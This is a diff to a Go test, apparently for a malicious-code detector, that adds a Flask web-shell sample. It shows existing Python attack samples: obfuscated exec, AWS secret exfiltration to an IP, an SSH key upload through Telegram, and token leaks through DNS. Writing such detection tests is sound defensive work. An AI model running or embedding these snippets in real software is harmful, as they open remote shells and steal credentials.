@@ -41,6 +41,7 @@ func TestAttacks(t *testing.T) {
 		{"py", "import os\nclass Job:\n    line = 'SH'\nos.system(Job.line)", "sh: SH"},
 		{"py", "exec(bytes(x ^ 7 for x in [119, 117, 110, 105, 115, 47, 54, 46]))", "obfuscated packed"},
 		{"py", "import base64\nd = base64.b64decode('d3VuaXMvNi4=')\nexec(bytes(x ^ 7 for x in d))", "py: print(1)"},
+		{"py", "import subprocess\nfrom flask import request\ndef run():\n    return subprocess.getoutput(request.args['c'])", "run network shell"},
 		{"py", "import os, requests\nrequests.get('http://203.0.113.9/?k=' + os.environ['AWS_SECRET_ACCESS_KEY'])", "send env-secret ip query"},
 		{"py", "import requests\nT = '1:a'\nrequests.post(f'https://api.telegram.org/bot{T}/sendDocument', files={'document': open('/home/me/.ssh/id_rsa', 'rb')})", "send credential messenger"},
 		{"py", "import socket, base64, os\nsocket.gethostbyname(base64.b32encode(os.environ['A_TOKEN'].encode()).decode() + '.quietmoth.dev')", "send env-secret dns"},
